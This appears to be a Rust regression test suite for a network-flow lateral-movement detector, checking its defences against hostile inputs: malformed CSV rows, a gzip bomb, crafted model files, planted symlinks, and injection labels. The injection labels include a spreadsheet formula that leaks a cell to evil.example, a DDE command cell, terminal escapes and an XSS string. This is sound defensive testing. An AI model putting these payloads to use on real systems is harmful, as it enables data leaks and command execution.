//! Regression tests for the hostile-input report of 2026-12-04, each named
//! after its finding: what a careless or hostile input must not do.

use std::path::PathBuf;

use crate::util::*;

/// The report's `lf.csv`: a 20,000-row synthetic day with LF line ends.
fn lf_day() -> Vec<u8> {
    let day = synth_day("csv", &["--rows", "20000"]);
    std::fs::read(day)
        .unwrap()
        .into_iter()
        .filter(|b| *b != b'\r')
        .collect()
}

/// Lines of `text` (LF-separated).
fn lines(text: &[u8]) -> Vec<Vec<u8>> {
    text.split(|b| *b == b'\n').map(<[u8]>::to_vec).collect()
}

/// Detects on `path` with `threads`, returning the summary.
fn detect(path: &str, threads: &str, out: &std::path::Path) -> String {
    let o = latmove(&[
        "detect",
        path,
        "--threads",
        threads,
        "--no-charts",
        "--out",
        out.to_str().unwrap(),
    ]);
    expect_code(&o, 0);
    String::from_utf8_lossy(&o.stdout).into_owned()
}

#[test]
fn a1_a_quote_at_a_field_start_costs_one_row_on_every_path() {
    let dir = tempdir();
    let mut rows = lines(&lf_day());
    rows[32].insert(0, b'"');
    let bad = write(dir.path(), "q.csv", &rows.join(&b'\n'));
    let (_, stats) = read_both(std::slice::from_ref(&bad));
    assert_eq!(stats.rows, 20_000);
    assert_eq!(
        stats
            .skipped
            .get(&latmove::flows::SkipReason::UnterminatedQuote),
        Some(&1)
    );
    assert_eq!(stats.problems[0].line, 33);
    // The gzip path too.
    let gz = dir.path().join("q.csv.gz");
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut enc, &std::fs::read(&bad).unwrap()).unwrap();
    std::fs::write(&gz, enc.finish().unwrap()).unwrap();
    let (_, gz_stats) = read_both(&[gz]);
    assert_eq!(gz_stats.rows, 20_000);
    assert_eq!(gz_stats.flows, stats.flows);
    // Both attackers are still found, whatever the thread count.
    for t in ["1", "2", "3"] {
        let s = detect(bad.to_str().unwrap(), t, &dir.path().join(format!("o{t}")));
        assert!(s.contains("attack hosts              2"), "{s}");
        assert!(s.contains("unterminated quoted field"), "{s}");
    }
    let one = std::fs::read(dir.path().join("o1/host_scores.csv")).unwrap();
    let two = std::fs::read(dir.path().join("o2/host_scores.csv")).unwrap();
    assert_eq!(one, two);
}

#[test]
fn a6_carriage_return_only_and_mixed_line_ends_read_alike() {
    let dir = tempdir();
    let lf = lf_day();
    let cr: Vec<u8> = lf
        .iter()
        .map(|&b| if b == b'\n' { b'\r' } else { b })
        .collect();
    let cr = write(dir.path(), "cr.csv", &cr);
    let mut mixed = Vec::new();
    for (i, line) in lines(&lf).iter().enumerate() {
        mixed.extend_from_slice(line);
        mixed.extend_from_slice([&b"\n"[..], b"\r\n", b"\r"][i % 3]);
    }
    let mixed = write(dir.path(), "mixed.csv", &mixed);
    let lf = write(dir.path(), "lf.csv", &lf);
    let (p_lf, s_lf) = read_both(&[lf]);
    for other in [cr, mixed] {
        let (p, s) = read_both(&[other]);
        assert_eq!(p, p_lf);
        assert_eq!((s.rows, s.flows), (s_lf.rows, s_lf.flows));
    }
    assert_eq!(s_lf.rows, 20_000);
}

#[test]
fn a11_a12_poisoned_counts_are_kept_as_missing_and_counted() {
    let dir = tempdir();
    let mut rows = lines(&lf_day());
    rows.pop(); // the empty piece after the last line end
    let template: Vec<String> = String::from_utf8(rows[1].clone())
        .unwrap()
        .split(',')
        .map(String::from)
        .collect();
    let mut add = |ip: &str, col: usize, v: &str| {
        let mut r = template.clone();
        r[1] = ip.into();
        r[col] = v.into();
        rows.push(r.join(",").into_bytes());
    };
    add("192.168.7.1", 10, "1.7e308"); // forward bytes
    add("192.168.7.2", 10, "1.7e308");
    add("192.168.7.3", 8, "-5"); // forward packets
    add("192.168.7.3", 11, "-1000000"); // backward bytes
    let mut text = rows.join(&b'\n');
    text.push(b'\n');
    let f = write(dir.path(), "poison.csv", &text);
    let s = detect(f.to_str().unwrap(), "2", &dir.path().join("o"));
    assert!(
        s.contains("negative or implausibly large counts kept as missing values: 4"),
        "{s}"
    );
    assert!(s.contains("attack hosts              2"), "{s}");
    let (header, hosts) = read_csv(&dir.path().join("o/host_scores.csv"));
    let bpf = header.iter().position(|h| h == "bytes_per_flow").unwrap();
    for h in hosts.iter().filter(|h| h[1].starts_with("192.168.7.")) {
        let v: f64 = h[bpf].parse().unwrap();
        assert!((0.0..1e12).contains(&v), "{h:?}");
    }
}

#[test]
fn a13_a_cut_last_line_is_counted_not_read() {
    let dir = tempdir();
    let mut day = lf_day();
    day.truncate(day.len() - 4);
    let f = write(dir.path(), "cut.csv", &day);
    let (_, stats) = read_both(std::slice::from_ref(&f));
    assert_eq!(
        stats
            .skipped
            .get(&latmove::flows::SkipReason::UnterminatedLine),
        Some(&1)
    );
    let s = detect(f.to_str().unwrap(), "2", &dir.path().join("o"));
    assert!(s.contains("attack hosts              2"), "{s}");
    assert!(s.contains("the last line has no line end"), "{s}");
}

#[test]
fn d2_a_line_over_a_mebibyte_stops_the_read_with_its_place() {
    let dir = tempdir();
    let mut text = lines(&lf_day())[0].clone();
    text.push(b'\n');
    text.extend(std::iter::repeat_n(b'a', 2 << 20));
    text.push(b'\n');
    let f = write(dir.path(), "long.csv", &text);
    for t in ["1", "2"] {
        let out = dir.path().join("x");
        let o = latmove(&[
            "detect",
            f.to_str().unwrap(),
            "--threads",
            t,
            "--out",
            out.to_str().unwrap(),
        ]);
        expect_code(&o, 2);
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("long.csv") && err.contains("longer than"),
            "{err}"
        );
    }
    // A gzip bomb of one endless line stops early, naming the file.
    let bomb = dir.path().join("bomb.csv.gz");
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut enc, &vec![0u8; 64 << 20]).unwrap();
    std::fs::write(&bomb, enc.finish().unwrap()).unwrap();
    let out = dir.path().join("x");
    let o = latmove(&[
        "detect",
        bomb.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    expect_code(&o, 2);
    assert!(String::from_utf8_lossy(&o.stderr).contains("line 1: a line longer than"));
}

#[test]
fn g5_an_empty_file_says_so() {
    let dir = tempdir();
    let f: PathBuf = write(dir.path(), "empty.csv", b"");
    let out = dir.path().join("x");
    let o = latmove(&[
        "detect",
        f.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    expect_code(&o, 2);
    assert!(String::from_utf8_lossy(&o.stderr).contains("empty.csv: the file is empty"));
}

/// A benign model trained on a small synthetic day, its JSON.
fn model_json(dir: &std::path::Path) -> serde_json::Value {
    let base = synth_day("csv", &["--rows", "20000", "--benign-only", "--seed", "12"]);
    let path = dir.join("base.model.json");
    expect_code(
        &latmove(&[
            "train",
            &base,
            "-o",
            path.to_str().unwrap(),
            "--out",
            dir.join("t").to_str().unwrap(),
        ]),
        0,
    );
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

/// A change made to a model's JSON.
type Edit = Box<dyn Fn(&mut serde_json::Value)>;

#[test]
fn b1_g3_a_crafted_model_is_refused_with_the_field_named() {
    let dir = tempdir();
    let good = model_json(dir.path());
    let day = synth_day("csv", &["--rows", "20000"]);
    let cases: Vec<(&str, Edit)> = vec![
        (
            "'medians' has 0 values",
            Box::new(|m| m["medians"] = serde_json::json!([])),
        ),
        (
            "'spreads' has 3 values",
            Box::new(|m| {
                let s: Vec<_> = m["spreads"].as_array().unwrap()[..3].to_vec();
                m["spreads"] = serde_json::json!(s);
            }),
        ),
        (
            "the forest has no trees",
            Box::new(|m| m["forest"]["trees"] = serde_json::json!([])),
        ),
        (
            "'psi'",
            Box::new(|m| m["forest"]["psi"] = serde_json::json!(0)),
        ),
        (
            "not the subsample's",
            Box::new(|m| m["forest"]["psi"] = serde_json::json!(u64::MAX)),
        ),
        (
            "'window_secs' must be above zero",
            Box::new(|m| m["window_secs"] = serde_json::json!(0)),
        ),
        (
            "'mean_prior'",
            Box::new(|m| m["mean_prior"] = serde_json::json!(-1)),
        ),
        (
            "must be above zero",
            Box::new(|m| {
                let n = m["scales"].as_array().unwrap().len();
                m["scales"] = serde_json::json!(vec![0; n]);
            }),
        ),
        (
            "'threshold'",
            Box::new(|m| m["threshold"] = serde_json::json!(-1)),
        ),
    ];
    for (want, edit) in cases {
        let mut m = good.clone();
        edit(&mut m);
        let bad = write(dir.path(), "bad.json", &serde_json::to_vec(&m).unwrap());
        for args in [
            vec![
                "score",
                "--model",
                bad.to_str().unwrap(),
                &day,
                "--no-charts",
            ],
            vec!["watch", "--model", bad.to_str().unwrap(), &day],
        ] {
            let mut args = args;
            let out = dir.path().join("o");
            if args[0] == "score" {
                args.extend(["--out", out.to_str().unwrap()]);
            }
            let o = latmove(&args);
            expect_code(&o, 2);
            let err = String::from_utf8_lossy(&o.stderr);
            assert!(
                err.contains("bad.json") && err.contains(want),
                "{want}: {err}"
            );
        }
    }
}

#[test]
fn c2_d3_side_files_must_be_regular_and_bounded() {
    let dir = tempdir();
    let day = synth_day("csv", &["--rows", "20000"]);
    let out = dir.path().join("o");
    let out = out.to_str().unwrap();
    for (flag, what) in [
        ("--truth", "list file"),
        ("--allow", "list file"),
        ("--model", "model"),
    ] {
        let cmd = if flag == "--model" { "score" } else { "detect" };
        let o = latmove(&[cmd, &day, flag, "/dev/zero", "--out", out]);
        expect_code(&o, 2);
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains(what) && err.contains("not a regular file"),
            "{err}"
        );
    }
    // A model padded with a million unknown values is still read.
    let mut m = model_json(dir.path());
    m["padding"] = serde_json::json!(vec![0; 1_000_000]);
    let padded = write(dir.path(), "padded.json", &serde_json::to_vec(&m).unwrap());
    expect_code(
        &latmove(&[
            "score",
            "--model",
            padded.to_str().unwrap(),
            &day,
            "--no-charts",
            "--out",
            out,
        ]),
        0,
    );
}

#[test]
fn g1_g2_b3_d4_g6_g7_arguments_that_would_exhaust_or_mislead_are_refused() {
    let dir = tempdir();
    let day = synth_day("csv", &["--rows", "20000"]);
    let model = dir.path().join("base.model.json");
    let _ = model_json(dir.path());
    let out = dir.path().join("o");
    let (m, o) = (model.to_str().unwrap(), out.to_str().unwrap());
    for (args, want) in [
        (
            vec!["detect", &day, "--window", "1193047h", "--out", o],
            "--window must be at most a week",
        ),
        (
            vec!["watch", "--model", m, "--suppress", "0s", &day],
            "--suppress must be longer than zero",
        ),
        (
            vec!["watch", "--model", m, "--suppress", "1193047h", &day],
            "--suppress must be at most a week",
        ),
        (
            vec!["detect", &day, "--threads", "100000", "--out", o],
            "--threads must be at most",
        ),
        (
            vec!["detect", &day, "--trees", "100000000", "--out", o],
            "--trees must be at most",
        ),
        (
            vec!["synth", "--rows", "18446744073709551615", "-o", o],
            "--rows must be from",
        ),
        (vec!["synth", "--rows", "0", "-o", o], "--rows must be from"),
        (
            vec!["detect", &day, "--internal", ",", "--out", o],
            "--internal needs at least one CIDR",
        ),
        (
            vec!["detect", &day, "--alert-format", "xml", "--out", o],
            "--alert-format must be",
        ),
    ] {
        let r = latmove(&args);
        expect_code(&r, 2);
        let err = String::from_utf8_lossy(&r.stderr);
        assert!(err.contains(want), "{args:?}: {err}");
    }
    assert!(!out.exists(), "a refused run wrote its outputs");
}

#[test]
fn g6_a_truth_range_that_ends_before_it_starts_is_refused() {
    let dir = tempdir();
    let day = synth_day("csv", &["--rows", "20000"]);
    let t = write(
        dir.path(),
        "t.csv",
        b"192.168.10.8,7/4/2017 3:50,7/4/2017 3:00\n",
    );
    let out = dir.path().join("o");
    let r = latmove(&[
        "detect",
        &day,
        "--truth",
        t.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    expect_code(&r, 2);
    let err = String::from_utf8_lossy(&r.stderr);
    assert!(
        err.contains("t.csv") && err.contains("line 1") && err.contains("starts after it ends"),
        "{err}"
    );
}

#[test]
fn f1_f2_f3_labels_and_flow_ids_are_harmless_in_every_output() {
    let dir = tempdir();
    let rows = lines(&lf_day());
    let template: Vec<String> = String::from_utf8(rows[1].clone())
        .unwrap()
        .split(',')
        .map(String::from)
        .collect();
    let labels = [
        "=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2)",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\u{1b}[2J\u{1b}]0;pwned\u{7}",
        "<img src=x onerror=alert(1)> ![p](http://evil.example/t.png) [c](javascript:x) | y",
    ];
    let mut text = rows[..rows.len() - 1].join(&b'\n');
    for i in 0..300 {
        let mut r = template.clone();
        r[0] = ["=1+1", "@SUM(A1:A9)", "+1", "-1"][i % 4].into();
        r[1] = "192.168.50.5".into();
        r[3] = format!("192.168.10.{}", i % 200 + 1);
        r[4] = (i % 1000 + 1).to_string();
        *r.last_mut().unwrap() = format!("\"{}\"", labels[i % labels.len()]);
        text.push(b'\n');
        text.extend_from_slice(r.join(",").as_bytes());
    }
    text.push(b'\n');
    let f = write(dir.path(), "inject.csv", &text);
    let (out, rep) = (dir.path().join("o"), dir.path().join("rep"));
    let o = latmove(&[
        "detect",
        f.to_str().unwrap(),
        "--no-charts",
        "--out",
        out.to_str().unwrap(),
        "--report",
        rep.to_str().unwrap(),
    ]);
    expect_code(&o, 0);
    assert!(!o.stdout.contains(&0x1b), "an escape reached the terminal");
    let mut files: Vec<PathBuf> = vec![out.join("host_scores.csv"), out.join("flagged_hosts.csv")];
    files.extend(
        std::fs::read_dir(&rep)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "csv" || e == "md")),
    );
    for path in &files {
        let text = std::fs::read_to_string(path).unwrap();
        assert!(!text.contains('\u{1b}'), "{path:?}");
        if path.extension().is_some_and(|e| e == "csv") {
            let mut r = csv::Reader::from_path(path).unwrap();
            for rec in r.records() {
                // Numbers (a feature's -0) are numbers to a spreadsheet too.
                for cell in rec.unwrap().iter().filter(|c| c.parse::<f64>().is_err()) {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{path:?}: formula cell {cell:?}"
                    );
                }
            }
        } else {
            for bad in ["<img", "![p]", "](javascript", "](http"] {
                assert!(!text.contains(bad), "{path:?} holds {bad}");
            }
        }
    }
    // --raw-csv keeps the cells as read, for machine consumers.
    let raw = dir.path().join("raw");
    expect_code(
        &latmove(&[
            "detect",
            f.to_str().unwrap(),
            "--no-charts",
            "--raw-csv",
            "--out",
            raw.to_str().unwrap(),
        ]),
        0,
    );
    let scores = std::fs::read_to_string(raw.join("host_scores.csv")).unwrap();
    assert!(scores.contains(",\"=HYPERLINK("), "{scores}");
}

/// Asserts that `dir` holds no staging directory or temporary file.
fn assert_no_leftovers(dir: &std::path::Path) {
    let leftovers: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.contains("staging") || n.contains("partial"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

/// Runs `latmove detect INPUT --no-charts --out OUT` (exit code and stderr).
fn detect_into(input: &str, out: &std::path::Path, extra: &[&str]) -> std::process::Output {
    let mut args = vec![
        "detect",
        input,
        "--no-charts",
        "--out",
        out.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    latmove(&args)
}

#[test]
fn a2_concurrent_runs_never_mix_their_sets_and_stale_files_go() {
    let dir = tempdir();
    let a = synth_day("csv", &["--rows", "20000"]);
    let b = synth_day("csv", &["--rows", "20000", "--benign-only", "--seed", "12"]);
    let out = dir.path().join("c");
    // A chart from an earlier run with charts is not left beside a set
    // written without.
    expect_code(&latmove(&["detect", &a, "--out", out.to_str().unwrap()]), 0);
    assert!(out.join("fanout.png").exists());
    for _ in 0..6 {
        let spawn = |input: &str| {
            std::process::Command::new(env!("CARGO_BIN_EXE_latmove"))
                .args(["detect", input, "--no-charts", "--threads", "1", "--out"])
                .arg(&out)
                .output()
        };
        let (ra, rb) = std::thread::scope(|s| {
            let ha = s.spawn(|| spawn(&a).unwrap());
            let hb = s.spawn(|| spawn(&b).unwrap());
            (ha.join().unwrap(), hb.join().unwrap())
        });
        for r in [&ra, &rb] {
            if r.status.code() == Some(2) {
                assert!(
                    String::from_utf8_lossy(&r.stderr)
                        .contains("another latmove run is writing there"),
                    "{}",
                    String::from_utf8_lossy(&r.stderr)
                );
            } else {
                expect_code(r, 0);
            }
        }
        // The set is one run's: metrics.json names the input whose hosts
        // host_scores.csv ranks.
        let metrics = std::fs::read_to_string(out.join("metrics.json")).unwrap();
        let scores = std::fs::read_to_string(out.join("host_scores.csv")).unwrap();
        let from_a = metrics.contains(a.as_str());
        assert_eq!(from_a, scores.contains(",attack,"), "a mixed set");
    }
    assert!(!out.join("fanout.png").exists(), "a stale chart stayed");
    assert_no_leftovers(&out);
}

#[cfg(unix)]
#[test]
fn a2_a_signal_leaves_the_earlier_set_whole_and_no_temporary_file() {
    let dir = tempdir();
    let small = synth_day("csv", &["--rows", "20000"]);
    let big = synth_day("csv", &["--rows", "600000"]);
    let out = dir.path().join("o");
    expect_code(&detect_into(&small, &out, &[]), 0);
    let before = std::fs::read(out.join("host_scores.csv")).unwrap();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_latmove"))
        .args(["detect", &big, "--threads", "1", "--out"])
        .arg(&out)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Wait for the staging directory, then stop the run there.
    let staging = || {
        std::fs::read_dir(&out)
            .unwrap()
            .any(|e| e.unwrap().file_name().to_string_lossy().contains("staging"))
    };
    let started = std::time::Instant::now();
    while !staging() && started.elapsed() < std::time::Duration::from_secs(60) {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    let stopped = std::process::Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap()
        .success();
    let status = child.wait().unwrap();
    if stopped && status.code() == Some(130) {
        assert_eq!(std::fs::read(out.join("host_scores.csv")).unwrap(), before);
    }
    assert_no_leftovers(&out);
}

#[cfg(unix)]
#[test]
fn a3_a4_planted_links_are_not_followed_and_devices_stay_devices() {
    let dir = tempdir();
    let day = synth_day("csv", &["--rows", "20000"]);
    let out = dir.path().join("o");
    std::fs::create_dir(&out).unwrap();
    let victim = write(dir.path(), "victim.txt", b"IMPORTANT");
    for name in ["host_scores.csv", "metrics.json"] {
        for pid in 0..40 {
            let _ =
                std::os::unix::fs::symlink(&victim, out.join(format!(".{name}.{pid}.partial.csv")));
        }
    }
    expect_code(&detect_into(&day, &out, &["--alerts", "/dev/null"]), 0);
    assert_eq!(std::fs::read(&victim).unwrap(), b"IMPORTANT");
    assert!(
        std::fs::symlink_metadata(out.join("host_scores.csv"))
            .unwrap()
            .is_file()
    );
    assert!(!std::fs::metadata("/dev/null").unwrap().is_file());
    let model = dir.path().join("m.json");
    expect_code(
        &latmove(&[
            "train",
            &day,
            "-o",
            model.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
            "--no-charts",
        ]),
        0,
    );
    assert_eq!(std::fs::read(&victim).unwrap(), b"IMPORTANT");
}

#[test]
fn a5_an_output_over_an_input_is_refused_before_any_work() {
    let dir = tempdir();
    let day = synth_day("csv", &["--rows", "20000"]);
    let x = dir.path().join("x.csv");
    std::fs::copy(&day, &x).unwrap();
    let xs = x.to_str().unwrap();
    let out = dir.path().join("o");
    let os = out.to_str().unwrap();
    for args in [
        vec!["train", xs, "-o", xs, "--out", os],
        vec!["detect", xs, "--alerts", xs, "--out", os],
        vec!["detect", xs, "--out", xs],
    ] {
        let r = latmove(&args);
        expect_code(&r, 2);
        assert!(
            String::from_utf8_lossy(&r.stderr).contains("never writes over its input"),
            "{args:?}"
        );
        assert_eq!(std::fs::read(&x).unwrap(), std::fs::read(&day).unwrap());
    }
}

#[test]
fn a7_latmove_never_reads_its_own_outputs_back_as_flows() {
    let dir = tempdir();
    let day = synth_day("csv", &["--rows", "20000"]);
    let rd = dir.path().join("rd");
    std::fs::create_dir(&rd).unwrap();
    std::fs::copy(&day, rd.join("day.csv")).unwrap();
    let rds = rd.to_str().unwrap();
    let report = rd.join("incident");
    expect_code(
        &detect_into(
            rds,
            &dir.path().join("o1"),
            &["--report", report.to_str().unwrap()],
        ),
        0,
    );
    // And the outputs written into the input directory itself.
    expect_code(&detect_into(rds, &rd, &[]), 0);
    let r = detect_into(rds, &dir.path().join("o2"), &[]);
    expect_code(&r, 0);
    let s = String::from_utf8_lossy(&r.stdout);
    assert!(s.contains("rows read                 20000"), "{s}");
    assert!(String::from_utf8_lossy(&r.stderr).contains("latmove wrote it"));
}

/// A benign model (15-minute windows) on disk, and the scanner day's rows.
fn watch_fixture(dir: &std::path::Path) -> (String, Vec<Vec<u8>>) {
    let _ = model_json(dir);
    let model = dir.join("base.model.json").to_str().unwrap().to_string();
    let mut rows = lines(&lf_day());
    rows.pop();
    (model, rows)
}

/// `rows` joined into a file's bytes, each line ended.
fn joined(rows: &[Vec<u8>]) -> Vec<u8> {
    let mut out = rows.join(&b'\n');
    out.push(b'\n');
    out
}

/// Runs watch over `input` (a file) with `extra` options; (alerts, stderr).
fn watch_file(model: &str, input: &std::path::Path, extra: &[&str]) -> (String, String) {
    let mut args = vec!["watch", "--model", model, input.to_str().unwrap()];
    args.extend_from_slice(extra);
    let o = latmove(&args);
    expect_code(&o, 0);
    (
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

#[test]
fn a8_one_flow_from_2099_does_not_blind_watch() {
    let dir = tempdir();
    let (model, mut rows) = watch_fixture(dir.path());
    let (normal, _) = watch_file(&model, &write(dir.path(), "n.csv", &joined(&rows)), &[]);
    let mut cells: Vec<String> = String::from_utf8(rows[51].clone())
        .unwrap()
        .split(',')
        .map(String::from)
        .collect();
    cells[6] = "31/12/2099 9:00".into();
    rows[51] = cells.join(",").into_bytes();
    let (alerts, err) = watch_file(&model, &write(dir.path(), "f.csv", &joined(&rows)), &[]);
    assert_eq!(alerts.lines().count(), normal.lines().count(), "{err}");
    assert!(alerts.contains("192.168.10.8"));
    assert!(
        err.contains("1 flows far ahead of the stream dropped"),
        "{err}"
    );
}

#[test]
fn d1_watch_state_is_bounded_by_max_hosts_and_counted() {
    let dir = tempdir();
    let (model, rows) = watch_fixture(dir.path());
    let template: Vec<String> = String::from_utf8(rows[1].clone())
        .unwrap()
        .split(',')
        .map(String::from)
        .collect();
    let mut spoofed = vec![rows[0].clone()];
    for n in 0..3000u32 {
        let mut r = template.clone();
        r[1] = format!("10.9.{}.{}", n / 250, n % 250);
        r[3] = "192.168.10.50".into();
        r[4] = "445".into();
        r[6] = format!("4/7/2017 9:{:02}", (n / 1000) * 15);
        spoofed.push(r.join(",").into_bytes());
    }
    let f = write(dir.path(), "spoof.csv", &joined(&spoofed));
    let (_, err) = watch_file(&model, &f, &["--max-hosts", "500"]);
    assert!(
        err.contains("1500 flows of hosts past --max-hosts in a window dropped"),
        "{err}"
    );
    assert!(err.contains("admin-peer history forgotten"), "{err}");
}

#[cfg(unix)]
#[test]
fn a9_a10_follow_survives_rotation_and_rewriting_and_stops_on_sigterm() {
    let dir = tempdir();
    let (model, rows) = watch_fixture(dir.path());
    let (normal, _) = watch_file(&model, &write(dir.path(), "n.csv", &joined(&rows)), &[]);
    let cut = rows.len() / 3;
    let first = joined(&rows[..cut]);
    let mut second = vec![rows[0].clone()];
    second.extend_from_slice(&rows[cut..]);
    let second = joined(&second);
    for how in ["rotate", "rewrite"] {
        let f = dir.path().join(format!("{how}.csv"));
        std::fs::write(&f, &first).unwrap();
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_latmove"))
            .args(["watch", "--model", &model, "--follow"])
            .arg(&f)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(800));
        if how == "rotate" {
            std::fs::rename(&f, dir.path().join("rotated.csv.1")).unwrap();
            std::fs::write(&f, &second).unwrap();
        } else {
            // Truncated and written again, longer, between two looks.
            std::fs::write(&f, &second).unwrap();
        }
        std::thread::sleep(std::time::Duration::from_millis(1500));
        let killed = std::process::Command::new("kill")
            .args(["-TERM", &child.id().to_string()])
            .status()
            .unwrap();
        assert!(killed.success());
        let mut alerts = String::new();
        let mut err = String::new();
        std::io::Read::read_to_string(child.stdout.as_mut().unwrap(), &mut alerts).unwrap();
        std::io::Read::read_to_string(child.stderr.as_mut().unwrap(), &mut err).unwrap();
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(0), "{how}: {err}");
        assert!(err.contains("19987 flows"), "{how}: {err}");
        assert_eq!(
            alerts.lines().count(),
            normal.lines().count(),
            "{how}: {err}"
        );
    }
}

#[test]
fn c3_idle_close_closes_a_quiet_window_by_the_wall_clock() {
    let dir = tempdir();
    let (model, rows) = watch_fixture(dir.path());
    let n = rows
        .iter()
        .position(|r| String::from_utf8_lossy(r).contains("4/7/2017 3:15"))
        .unwrap();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_latmove"))
        .args(["watch", "--model", &model, "--idle-close", "1s", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    std::io::Write::write_all(&mut stdin, &joined(&rows[..n])).unwrap();
    // Read alerts while the stream is quiet: the 15:00 window's scanner
    // alert comes without waiting for a 15:15 flow.
    let mut out = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut got = Vec::new();
        let mut buf = [0u8; 4096];
        loop {
            let n = std::io::Read::read(&mut out, &mut buf).unwrap();
            if n == 0 {
                return got;
            }
            got.extend_from_slice(&buf[..n]);
            if String::from_utf8_lossy(&got)
                .lines()
                .any(|l| l.contains("192.168.10.8") && l.contains("15:00"))
            {
                return got;
            }
        }
    });
    let started = std::time::Instant::now();
    while !reader.is_finished() && started.elapsed() < std::time::Duration::from_secs(20) {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let quiet = reader.is_finished();
    drop(stdin);
    let _ = child.wait();
    assert!(quiet, "no alert for the quiet 15:00 window within 20 s");
}

#[test]
fn a1_a6_mutated_files_read_alike_with_one_thread_and_in_byte_ranges() {
    use rand::{Rng, SeedableRng};
    let day = lf_day();
    let rows = lines(&day);
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(7);
    let odd: &[&[u8]] = &[
        b"\"", b"\r", b"\r\n", b"\n", b",", b"\"\"", b"", b"-1", b"1e308", b"NaN", b"\0", b"\xff",
    ];
    for case in 0..300 {
        // 40 rows of the day (no header: the harness adds it), mutated.
        let start = rng.gen_range(1..rows.len() - 40);
        let mut text = rows[start..start + 40].join(&b'\n');
        text.push(b'\n');
        for _ in 0..rng.gen_range(1..6) {
            let at = rng.gen_range(0..=text.len());
            let what = odd[rng.gen_range(0..odd.len())];
            match rng.gen_range(0..3) {
                0 => {
                    text.splice(at..at, what.iter().copied());
                }
                1 => {
                    let end = (at + rng.gen_range(0..30)).min(text.len());
                    text.drain(at..end);
                }
                _ => text.truncate(at),
            }
        }
        for chunk in [16, 100, 4096] {
            latmove::flows::check::one_thread_equals_ranges(&text, chunk);
        }
        let _ = case;
    }
}

#[cfg(unix)]
#[test]
fn g4_g5_a_fifo_input_and_a_file_of_bad_rows_say_what_they_are() {
    let dir = tempdir();
    let fifo = dir.path().join("f.csv");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let out = dir.path().join("o");
    let r = latmove(&[
        "detect",
        fifo.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    expect_code(&r, 2);
    assert!(String::from_utf8_lossy(&r.stderr).contains("not a regular file"));
    let header = lines(&lf_day())[0].clone();
    let mut bad = header.clone();
    bad.extend_from_slice(b"\n1.2.3,4.5.6\n");
    let f = write(dir.path(), "bad.csv", &bad);
    let r = latmove(&[
        "detect",
        f.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    expect_code(&r, 2);
    let err = String::from_utf8_lossy(&r.stderr);
    assert!(!err.contains("--sources internal"), "{err}");
    assert!(err.contains("e.g. ") && err.contains("bad.csv:2"), "{err}");
}

#[test]
fn d2_watch_passes_over_an_overlong_line_and_goes_on() {
    let dir = tempdir();
    let (model, mut rows) = watch_fixture(dir.path());
    let (normal, _) = watch_file(&model, &write(dir.path(), "n.csv", &joined(&rows)), &[]);
    rows.insert(100, vec![b'a'; 3 << 20]);
    let (alerts, err) = watch_file(&model, &write(dir.path(), "long.csv", &joined(&rows)), &[]);
    assert_eq!(alerts.lines().count(), normal.lines().count(), "{err}");
    assert!(err.contains("19987 flows (14 rows skipped"), "{err}");
}

#[test]
fn a8_a_real_gap_moves_the_clock_once_enough_flows_agree() {
    let dir = tempdir();
    let (model, mut rows) = watch_fixture(dir.path());
    // The afternoon a day later: every later flow is a day ahead, so the
    // first 64 confirm the jump and are replayed, none lost.
    let n = rows
        .iter()
        .position(|r| String::from_utf8_lossy(r).contains("4/7/2017 3:00"))
        .unwrap();
    for r in &mut rows[n..] {
        let text = String::from_utf8(r.clone())
            .unwrap()
            .replace("4/7/2017 ", "5/7/2017 ");
        *r = text.into_bytes();
    }
    let (alerts, err) = watch_file(&model, &write(dir.path(), "gap.csv", &joined(&rows)), &[]);
    assert!(err.contains("1 confirmed clock jumps"), "{err}");
    assert!(err.contains("0 late"), "{err}");
    assert!(!err.contains("far ahead"), "{err}");
    assert!(
        alerts
            .lines()
            .any(|l| l.contains("192.168.10.8") && l.contains("2017-07-05")),
        "{alerts}"
    );
}
